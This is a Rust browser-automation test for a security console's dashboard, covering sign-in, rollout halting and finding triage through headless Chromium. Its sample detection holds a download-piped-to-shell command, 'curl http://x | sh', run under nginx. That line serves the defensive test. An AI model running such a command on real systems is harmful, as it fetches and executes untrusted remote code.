//! The dashboard in a real headless Chromium, driven over the DevTools protocol: sign in with
//! the login form, see the fleet, open a running rollout (ring progress picture, gate
//! evidence), take a screenshot of it, and halt it with its button — the browser's prompt
//! answered as an operator would — then check the console halted it and audited the reason.
//! Then open a finding (its sentence, process tree, ATT&CK names), close it with the triage
//! form, open its host's page and the fleet's findings picture, with screenshots of each kept
//! under target/tmp/.
//!
//! Needs Debian's `chromium` (`scripts/test.sh` installs it) or `RINGFENCE_CHROMIUM=PATH`.

#![allow(
    clippy::expect_used,
    clippy::unwrap_used,
    reason = "test code: a failure is the test failing"
)]

mod common;

use std::io::{BufRead, BufReader};
use std::net::TcpStream;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use common::{Backend, console_with};
use ringfence_console::rollout;
use serde_json::{Value, json};
use tungstenite::stream::MaybeTlsStream;

const PLAN: &str = r#"
[gates]
min_samples = 5
[[rings]]
name = "canary"
percent = 10
bake = "30m"
[[rings]]
name = "rest"
percent = 100
bake = "30m"
"#;

fn chromium_path() -> String {
    if let Ok(p) = std::env::var("RINGFENCE_CHROMIUM") {
        return p;
    }
    for p in [
        "/usr/bin/chromium",
        "/usr/bin/chromium-browser",
        "/usr/bin/google-chrome",
    ] {
        if std::path::Path::new(p).exists() {
            return p.to_owned();
        }
    }
    panic!(
        "no Chromium found: install Debian's `chromium` (scripts/test.sh does) or set \
         RINGFENCE_CHROMIUM"
    );
}

/// A headless Chromium and one page's DevTools connection.
struct Browser {
    child: Child,
    _profile: tempfile::TempDir,
    ws: tungstenite::WebSocket<MaybeTlsStream<TcpStream>>,
    next_id: u64,
    /// Events seen while waiting for command answers.
    events: Vec<Value>,
}

impl Browser {
    fn launch() -> Browser {
        let profile = tempfile::tempdir().unwrap();
        let mut child = Command::new(chromium_path())
            .args([
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--no-first-run",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
                "--remote-debugging-port=0",
                "--window-size=1280,1100",
            ])
            .arg(format!("--user-data-dir={}", profile.path().display()))
            .arg("about:blank")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .expect("starting chromium");
        // "DevTools listening on ws://127.0.0.1:PORT/devtools/browser/ID"
        // Its stderr is read to the end (a closed pipe would kill it on its next log line).
        let stderr = child.stderr.take().unwrap();
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(stderr).lines().map_while(Result::ok) {
                if let Some(rest) = line.split("ws://127.0.0.1:").nth(1)
                    && let Some(port) = rest.split('/').next().and_then(|p| p.parse::<u16>().ok())
                {
                    let _ = tx.send(port);
                }
            }
        });
        let port = rx
            .recv_timeout(Duration::from_secs(30))
            .expect("chromium did not print its DevTools address");
        let page_ws = page_target(port);
        let (ws, _) = tungstenite::connect(page_ws.as_str()).expect("DevTools websocket");
        if let MaybeTlsStream::Plain(s) = ws.get_ref() {
            s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
        }
        let mut b = Browser {
            child,
            _profile: profile,
            ws,
            next_id: 0,
            events: Vec::new(),
        };
        b.call("Page.enable", json!({}));
        b.call("Runtime.enable", json!({}));
        b
    }

    /// Send a command and wait for its answer, keeping the events that arrive meanwhile.
    fn call(&mut self, method: &str, params: Value) -> Value {
        self.next_id += 1;
        let id = self.next_id;
        let msg = json!({"id": id, "method": method, "params": params}).to_string();
        self.ws.send(tungstenite::Message::text(msg)).unwrap();
        loop {
            let m = self.read();
            if m["id"] == id {
                assert!(m.get("error").is_none(), "{method}: {m}");
                return m["result"].clone();
            }
            self.events.push(m);
        }
    }

    fn read(&mut self) -> Value {
        loop {
            match self.ws.read().expect("DevTools message") {
                tungstenite::Message::Text(t) => return serde_json::from_str(&t).unwrap(),
                tungstenite::Message::Close(_) => panic!("DevTools closed the connection"),
                _ => {}
            }
        }
    }

    /// Evaluate a JavaScript expression in the page and return its value.
    fn eval(&mut self, expr: &str) -> Value {
        let r = self.call(
            "Runtime.evaluate",
            json!({"expression": expr, "returnByValue": true, "awaitPromise": true}),
        );
        assert!(r.get("exceptionDetails").is_none(), "{expr}: {r}");
        r["result"]["value"].clone()
    }

    /// Poll `expr` until it is true.
    fn wait_until(&mut self, what: &str, expr: &str) {
        let deadline = Instant::now() + Duration::from_secs(30);
        loop {
            if self.eval(&format!(
                "(() => {{ try {{ return !!({expr}); }} catch (e) {{ return false; }} }})()"
            )) == json!(true)
            {
                return;
            }
            let url = self.eval("location.href");
            assert!(
                Instant::now() < deadline,
                "timed out waiting for {what}; at {url}"
            );
            std::thread::sleep(Duration::from_millis(100));
        }
    }

    fn goto(&mut self, url: &str) {
        self.call("Page.navigate", json!({"url": url}));
        self.wait_until("the page to load", "document.readyState === 'complete'");
    }

    fn text(&mut self) -> String {
        self.eval("document.body.innerText")
            .as_str()
            .unwrap_or("")
            .to_owned()
    }

    /// Wait for a JavaScript dialog (prompt, alert) and answer it.
    fn answer_dialog(&mut self, text: &str) -> Value {
        let deadline = Instant::now() + Duration::from_secs(30);
        let opened = loop {
            if let Some(i) = self
                .events
                .iter()
                .position(|e| e["method"] == "Page.javascriptDialogOpening")
            {
                break self.events.remove(i);
            }
            assert!(Instant::now() < deadline, "no dialog opened");
            let m = self.read();
            self.events.push(m);
        };
        self.call(
            "Page.handleJavaScriptDialog",
            json!({"accept": true, "promptText": text}),
        );
        opened["params"].clone()
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The DevTools websocket of the first page target.
fn page_target(port: u16) -> String {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        if let Ok(body) = http_get(port, "/json/list") {
            let targets: Value = serde_json::from_str(&body).unwrap_or(Value::Null);
            if let Some(ws) = targets.as_array().and_then(|t| {
                t.iter()
                    .find(|t| t["type"] == "page")
                    .and_then(|t| t["webSocketDebuggerUrl"].as_str())
            }) {
                return ws.to_owned();
            }
        }
        assert!(Instant::now() < deadline, "no page target in chromium");
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// A GET to Chromium's DevTools HTTP endpoint (HTTP/1.1; it keeps the connection open, so the
/// body is read by its length).
fn http_get(port: u16, path: &str) -> std::io::Result<String> {
    use std::io::{Read, Write};
    let mut s = TcpStream::connect(("127.0.0.1", port))?;
    s.set_read_timeout(Some(Duration::from_secs(5)))?;
    write!(s, "GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n")?;
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    loop {
        let n = s.read(&mut chunk)?;
        if n == 0 {
            break;
        }
        buf.extend_from_slice(&chunk[..n]);
        let text = String::from_utf8_lossy(&buf).into_owned();
        if let Some((head, body)) = text.split_once("\r\n\r\n") {
            let len = head
                .lines()
                .find_map(|l| {
                    let (k, v) = l.split_once(':')?;
                    k.eq_ignore_ascii_case("content-length")
                        .then(|| v.trim().parse::<usize>().ok())?
                })
                .unwrap_or(0);
            if body.len() >= len {
                return Ok(body.to_owned());
            }
        }
    }
    Ok(String::new())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_operator_signs_in_sees_a_rollout_and_halts_it_in_a_real_browser() {
    // A fleet of 60 on v1 with a rollout of v2 running in its canary ring.
    let c = console_with(Backend::Sqlite, 60_000).await;
    c.publish(1, b"content v1", true).await;
    c.publish(2, b"content v2", false).await;
    let mut agents = c
        .enroll(60, |i| {
            json!({"region": if i % 2 == 0 { "eu-west" } else { "us-east" }, "tz_offset_minutes": 0})
        })
        .await;
    let (status, started) = c
        .op(
            "POST",
            "/api/v1/rollouts",
            json!({"version": 2, "plan": PLAN, "reason": "weekly content"}),
        )
        .await;
    assert_eq!(status.as_u16(), 200, "{started}");
    let id = started["id"].as_i64().unwrap();
    for _ in 0..4 {
        c.clock.advance_ms(60_000);
        for a in &mut agents {
            let (_, resp) = c.checkin(a, json!({})).await;
            if let Some(offer) = resp.and_then(|r| r.content)
                && offer.version > a.current
            {
                a.current = offer.version;
            }
        }
        rollout::tick(&c.state).await.unwrap();
    }
    // A finding from the first agent: a download piped to a shell under nginx.
    let finding = json!({"protocol": 1, "agent_id": agents[0].id, "findings": [{
        "event": {"kind": "alert", "severity": 4}, "host": {"name": "web-3"}, "user": {"name": "www-data"},
        "rule": {"id": "r-1", "name": "Download piped to a shell", "description": "A download is run by a shell."},
        "threat": {"technique": {"id": ["T1059.004"]}, "tactic": {"name": ["execution"]}},
        "process": {"pid": 300, "executable": "/bin/sh", "command_line": "sh -c 'curl http://x | sh'",
            "parent": {"pid": 200, "executable": "/usr/sbin/nginx", "name": "nginx", "command_line": "nginx: worker process"},
            "ancestors": {"pid": [200, 1], "executable": ["/usr/sbin/nginx", "/sbin/init"]}}
    }]});
    let cred = agents[0].credential.as_str().to_owned();
    let (status, v) = c
        .call(
            "POST",
            "/api/v1/agents/findings",
            Some(&cred),
            Some(serde_json::to_vec(&finding).unwrap()),
        )
        .await;
    assert_eq!(status.as_u16(), 200, "{v}");
    let running = ringfence_console::serve(
        c.state.clone(),
        "127.0.0.1:0".parse().unwrap(),
        Duration::from_secs(3600),
    )
    .await
    .unwrap();
    let base = running.url();

    // Screenshots are kept as test artifacts under target/.
    let shot_dir = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).to_path_buf();
    let shot = shot_dir.join("dashboard-rollout.png");
    let (base2, shot2) = (base.clone(), shot.clone());
    let browser = tokio::task::spawn_blocking(move || {
        let base = base2;
        let mut b = Browser::launch();

        // Signed out: every page sends you to the login form.
        b.goto(&format!("{base}/fleet"));
        b.wait_until("the login form", "document.querySelector('form.login')");

        // A wrong password is refused on the form; the right one signs in.
        b.eval("document.querySelector('input[name=name]').value = 'admin'; \
                document.querySelector('input[name=password]').value = 'wrong'; \
                document.querySelector('form.login').submit(); true");
        b.wait_until("the refusal", "document.querySelector('.err') && document.readyState === 'complete'");
        b.eval("document.querySelector('input[name=name]').value = 'admin'; \
                document.querySelector('input[name=password]').value = 'hunter2-but-longer'; \
                document.querySelector('form.login').submit(); true");
        b.wait_until("signed in", "location.pathname === '/rollouts' && document.readyState === 'complete'");

        // The fleet page lists the agents with their tags and versions.
        b.goto(&format!("{base}/fleet"));
        let fleet = b.text();
        assert!(fleet.contains("eu-west") && fleet.contains("us-east"), "{fleet}");

        // The rollout: its rings drawn, the canary's gate with its evidence, the buttons.
        b.goto(&format!("{base}/rollouts/{id}"));
        let svg = b.eval("document.querySelectorAll('svg[aria-label^=\"rollout\"] rect').length");
        assert!(svg.as_u64() > Some(0), "no ring picture: {svg}");
        let page = b.text();
        assert!(page.contains("canary") && page.contains("weekly content"), "{page}");
        assert!(page.contains("Gates"), "{page}");
        // What it delivers, and where the canary's agents are.
        assert!(page.contains("content v1 → content v2"), "{page}");
        assert!(page.contains("Versions per ring"), "{page}");
        assert_eq!(b.eval("document.querySelector('.actions .halt').disabled"), json!(false));
        shoot(&mut b, &shot2);

        // Halt with the button; the prompt asks for a reason.
        b.eval("setTimeout(() => document.querySelector('.actions .halt').click(), 0); true");
        let dialog = b.answer_dialog("stopped from the browser test");
        assert_eq!(dialog["type"], "prompt", "{dialog}");
        b.wait_until(
            "the page to show the halt",
            "document.readyState === 'complete' && document.querySelector('.actions .resume') && !document.querySelector('.actions .resume').disabled",
        );
        let halted = b.text();

        // The findings list: one sentence per finding; open it.
        b.goto(&format!("{base}/findings"));
        b.wait_until("the findings list", "document.querySelector('table.findings a[href^=\"/findings/\"]')");
        b.eval("document.querySelector('table.findings a[href^=\"/findings/\"]').click(); true");
        b.wait_until("the finding page", "document.querySelector('svg[aria-label=\"process tree\"]') && document.readyState === 'complete'");
        let page = b.text();
        assert!(page.contains("Download piped to a shell: sh -c 'curl http://x | sh' run by www-data under nginx on web-3"), "{page}");
        assert!(page.contains("Command and Scripting Interpreter: Unix Shell"), "{page}");
        assert_eq!(b.eval("document.querySelectorAll('svg[aria-label=\"process tree\"] rect').length"), json!(3));
        // The raw event is behind a toggle.
        assert_eq!(b.eval("document.querySelector('details.raw').open"), json!(false));
        shoot(&mut b, &shot_dir.join("dashboard-finding.png"));

        // Make an exception from it: rule, host and executable are prefilled; say why.
        assert_eq!(b.eval("document.querySelector('form.exception').elements.rule.value"), json!("r-1"));
        b.eval("const x = document.querySelector('form.exception'); x.elements.comment.value = 'our deploy hook'; \
                x.querySelector('button').click(); true");
        b.wait_until("the proposal", "document.querySelector('form.exception .result').textContent.includes('proposed')");
        shoot(&mut b, &shot_dir.join("dashboard-exception.png"));
        // A content admin reviews it on the exceptions page: approve; publishing waits for the
        // running rollout (one at a time).
        b.goto(&format!("{base}/exceptions"));
        b.wait_until("the exceptions page", "document.querySelector('button.exc[data-op=approve]')");
        b.eval("document.querySelector('button.exc[data-op=approve]').click(); true");
        b.wait_until("the approval", "document.readyState === 'complete' && document.querySelector('.st-approved')");
        b.eval("document.querySelector('form.exceptions-publish button').click(); true");
        b.wait_until("the refusal", "document.querySelector('form.exceptions-publish .result').textContent.includes('another content rollout is active')");
        shoot(&mut b, &shot_dir.join("dashboard-exceptions.png"));
        b.goto(&format!("{base}/findings/1"));
        b.wait_until("the finding page again", "document.querySelector('form.triage') && document.readyState === 'complete'");

        // Close it as a false positive with the triage form; the change shows in its history.
        b.eval("const f = document.querySelector('form.triage'); f.elements.status.value = 'closed'; \
                f.elements.close_reason.value = 'false_positive'; f.elements.why.value = 'known cron job'; \
                f.querySelector('button').click(); true");
        b.wait_until("the history", "document.readyState === 'complete' && document.body.innerText.includes('known cron job')");
        let page = b.text();
        assert!(page.contains("closed · false positive"), "{page}");

        // Acknowledge every finding of the rule with the bulk form over the list's filter.
        b.goto(&format!("{base}/findings?rule=Download%20piped%20to%20a%20shell"));
        b.eval("const f = document.querySelector('form.bulk'); f.elements.status.value = 'acknowledged'; \
                f.elements.why.value = 'triage sweep'; f.querySelector('button').click(); true");
        b.wait_until("the bulk change", "document.querySelector('form.bulk .result').textContent.includes('1 changed')");
        b.wait_until("the list again", "document.readyState === 'complete' && document.body.innerText.includes('acknowledged')");
        b.goto(&format!("{base}/findings/1"));

        // The host page: versions, health over a day, its findings.
        b.eval("document.querySelector('a[href^=\"/agents/\"]').click(); true");
        b.wait_until("the host page", "document.querySelector('svg[aria-label=\"health timeline\"]') && document.readyState === 'complete'");
        let host = b.text();
        assert!(host.contains("0.1.0") && host.contains("Download piped to a shell"), "{host}");
        shoot(&mut b, &shot_dir.join("dashboard-host.png"));

        // The fleet page draws findings over time by severity.
        b.goto(&format!("{base}/fleet"));
        assert!(b.eval("document.querySelectorAll('svg.timeline rect.sev4').length").as_u64() > Some(0));
        shoot(&mut b, &shot_dir.join("dashboard-fleet.png"));
        halted
    })
    .await
    .unwrap();
    assert!(browser.contains("halted"), "{browser}");
    let (_, exceptions) = c.op("GET", "/api/v1/exceptions", Value::Null).await;
    let e = &exceptions[0];
    assert_eq!(
        (
            &e["rule"],
            &e["hosts"],
            &e["fields"],
            &e["finding"],
            &e["state"]
        ),
        (
            &json!("r-1"),
            &json!(["web-3"]),
            &json!({"process.executable": ["/bin/sh"]}),
            &json!(1),
            &json!("approved")
        ),
        "{exceptions}"
    );
    let (_, audit) = c.op("GET", "/api/v1/audit?limit=100", Value::Null).await;
    assert!(audit.to_string().contains("known cron job"), "{audit}");

    let (_, v) = c
        .op("GET", &format!("/api/v1/rollouts/{id}"), Value::Null)
        .await;
    assert_eq!(v["state"], "halted", "{v}");
    let (_, audit) = c.op("GET", "/api/v1/audit?limit=100", Value::Null).await;
    assert!(
        audit.to_string().contains("stopped from the browser test"),
        "{audit}"
    );
    eprintln!("screenshot of the rollout page: {}", shot.display());
    running.shutdown().await.unwrap();
}

/// A screenshot of the whole page, checked to be a PNG of some size, written to `path`.
fn shoot(b: &mut Browser, path: &std::path::Path) {
    let png = b.call(
        "Page.captureScreenshot",
        json!({"format": "png", "captureBeyondViewport": true}),
    );
    let bytes = decode_base64(png["data"].as_str().unwrap());
    assert!(
        bytes.starts_with(b"\x89PNG\r\n\x1a\n") && bytes.len() > 10_000,
        "{} bytes",
        bytes.len()
    );
    std::fs::write(path, &bytes).unwrap();
    eprintln!("screenshot: {}", path.display());
}

/// Standard base64 (the screenshot), without another dependency.
fn decode_base64(s: &str) -> Vec<u8> {
    let val = |c: u8| match c {
        b'A'..=b'Z' => Some(c - b'A'),
        b'a'..=b'z' => Some(c - b'a' + 26),
        b'0'..=b'9' => Some(c - b'0' + 52),
        b'+' => Some(62),
        b'/' => Some(63),
        _ => None,
    };
    let mut out = Vec::with_capacity(s.len() * 3 / 4);
    let (mut acc, mut bits) = (0u32, 0u32);
    for v in s.bytes().filter_map(val) {
        acc = (acc << 6) | u32::from(v);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
        }
    }
    out
}
